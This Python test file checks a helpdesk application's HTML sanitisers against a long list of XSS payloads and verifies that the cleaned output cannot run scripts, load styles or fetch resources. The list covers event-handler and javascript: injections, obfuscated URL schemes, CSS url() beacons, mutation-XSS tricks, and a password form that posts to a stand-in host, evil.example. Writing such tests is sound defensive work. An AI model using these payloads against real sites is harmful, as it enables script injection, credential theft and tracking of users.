"""Hostile HTML, cleaned: read back with a browser's parsing rules, nothing in it can script, style or fetch."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from helpdesk.lib.html import clean_composer_html, clean_html, clean_mail_html

ATTACKS = [
    # plain script vectors
    "<script>alert(1)</script>ok",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" onerror ="alert(1)">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>x",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<template><img src=x onerror=alert(1)></template>",
    "<isindex type=image src=1 onerror=alert(1)>",
    # addresses
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="cid:x">x</a>',
    '<a href="/agent/tickets/1/messages/">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="data:text/html,x">',
    '<img src="/agent/attachments/1/x">',
    '<img src="https://evil.example/x.png">',
    '<img src="//evil.example/x.png">',
    '<img srcset="https://evil.example/x.png 2x">',
    '<img lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/x.png">',
    '<td background="https://evil.example/x.png">x</td>',
    '<table background="//evil.example/x.png"><tr><td>x</td></tr></table>',
    '<a href="https://ok.example" ping="https://evil.example">x</a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<video poster="https://evil.example/x.png"></video>',
    # styles
    "<style>*{background:url(https://evil.example)}</style>x",
    '<p style="background:url(https://evil.example/x.png)">x</p>',
    '<p style="background-image:url( \'//evil.example/x.png\' )">x</p>',
    '<p style="background:\\75rl(https://evil.example/x.png)">x</p>',
    '<p style="background:u\\72l(https://evil.example/x.png)">x</p>',
    '<p style="background:/**/url(https://evil.example/x.png)">x</p>',
    '<p style="background-image:image-set(\'https://evil.example/x.png\' 1x)">x</p>',
    '<p style="list-style:url(https://evil.example/x.png)">x</p>',
    '<p style="list-style-image:url(https://evil.example/x.png)">x</p>',
    '<p style="cursor:url(https://evil.example/x.cur),auto">x</p>',
    '<p style="content:url(https://evil.example/x.png)">x</p>',
    '<p style="border-image:url(https://evil.example/x.png) 30">x</p>',
    '<p style="filter:url(https://evil.example/x.svg#f)">x</p>',
    '<p style="font-family:\'a;background:url(https://evil.example)\'">x</p>',
    '<p style="color:red;/*;*/background:url(https://evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
    '<p style="behavior:url(x.htc)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
    '<p style="@import \'https://evil.example\'">x</p>',
    '<p style="color:red}*{background:url(https://evil.example)}">x</p>',
    '<p style="margin-top:-9999px">x</p>',
    '<p style="color:var(--x,url(https://evil.example))">x</p>',
    # mutation XSS: harmless in one parser, script in the next
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><desc><noscript><a title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<?xml version='1.0'?><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<frameset onload=alert(1)>",
    "<a href='x' title='\"><img src=x onerror=alert(1)>'>x</a>",
    "<p title=`--><img src=x onerror=alert(1)>`>",
    "<img alt='`onerror=alert(1) x=`'>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    # what our own page would act on
    '<div hx-get="/agent/" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<div data-hx-post="/agent/tickets/1/status/" data-live="queue">x</div>',
    '<ot-live data-url="/ws/agent/">x</ot-live><ot-composer></ot-composer>',
    '<div id="main" class="side app" name="csrf" slot="x" is="ot-live" role="alert">x</div>',
    '<p contenteditable tabindex=1 accesskey=x draggable=true autofocus>x</p>',
    '<a href="https://ok.example" target="_top" download rel="opener">x</a>',
]  # fmt: skip

HARMLESS_ATTRIBUTES = set(
    "href target rel dir lang title align valign style src alt width height border cellpadding cellspacing bgcolor "
    "background colspan rowspan nowrap span color face size start type value open".split()
)
FORBIDDEN_TAGS = set(
    "script style iframe object embed applet form input button select textarea svg math base meta link template "
    "noscript video audio source marquee body html head title frameset xmp plaintext ot-live ot-composer".split()
)


def elements(html: str) -> list[LexborNode]:
    """As a browser would read `html` inside a page."""
    body = LexborHTMLParser(f"<!doctype html><body><div id=outer>{html}</div>").body
    assert body is not None
    return [node for node in body.css("#outer *") if node.is_element_node]


def shape(html: str) -> list[object]:
    """Elements with their attributes and text; the cleaner gives attributes in any order."""
    return [(node.tag, sorted(node.attributes.items()), node.text_content) for node in elements(html)]


def assert_powerless(html: str, *, inline: bool) -> None:
    for node in elements(html):
        assert node.tag not in FORBIDDEN_TAGS, html
        for name, value in node.attributes.items():
            assert name in HARMLESS_ATTRIBUTES, html
            if name in ("href", "src", "background"):
                assert urlsplit(value or "").scheme in ("http", "https", "mailto", "tel"), html
            if name == "style":
                assert not inline
                assert not re.search(r"url|expression|binding|position|@|\\|[{}]|/\*|-9", value or "", re.IGNORECASE), (
                    html
                )
        if node.tag == "a" and "href" in node.attributes:
            assert "noopener" in (node.attributes["rel"] or "")
    assert "evil.example/x" not in re.sub(r'href="[^"]*"', "", html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_has_no_power_in_our_page(attack: str) -> None:
    for clean in (clean_html, clean_composer_html):
        cleaned = clean(attack)
        assert_powerless(cleaned, inline=True)
        assert shape(clean(cleaned)) == shape(cleaned)
        assert "<img" not in cleaned


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_has_no_power_in_the_frame(attack: str) -> None:
    cleaned = clean_mail_html(attack, cid_urls={})
    assert_powerless(cleaned, inline=False)
    assert shape(clean_mail_html(cleaned, cid_urls={})) == shape(cleaned)
    allowed = clean_mail_html(attack, allow_remote_images=True)
    assert_powerless(re.sub(r"url\('https?://evil\.example[^']*'\)|//evil\.example", "", allowed), inline=False)


@settings(deadline=None)
@given(
    st.lists(
        st.sampled_from([*ATTACKS, "</p>", "</div>", "<table>", "<td>", '"', "'", ">", "<", "-->", "&lt;", "x"]),
        max_size=8,
    )
)
def test_attacks_joined_have_no_power_either(pieces: list[str]) -> None:
    html = "".join(pieces)
    assert_powerless(clean_html(html), inline=True)
    assert_powerless(clean_mail_html(html, cid_urls={}), inline=False)


@settings(deadline=None)
@given(st.text(alphabet="<>/!-'\"=& abpsvgtdxl\n;:(){}[]?\\", max_size=120))
def test_no_soup_has_power(html: str) -> None:
    assert_powerless(clean_html(html), inline=True)
    assert_powerless(clean_mail_html(html, cid_urls={}), inline=False)
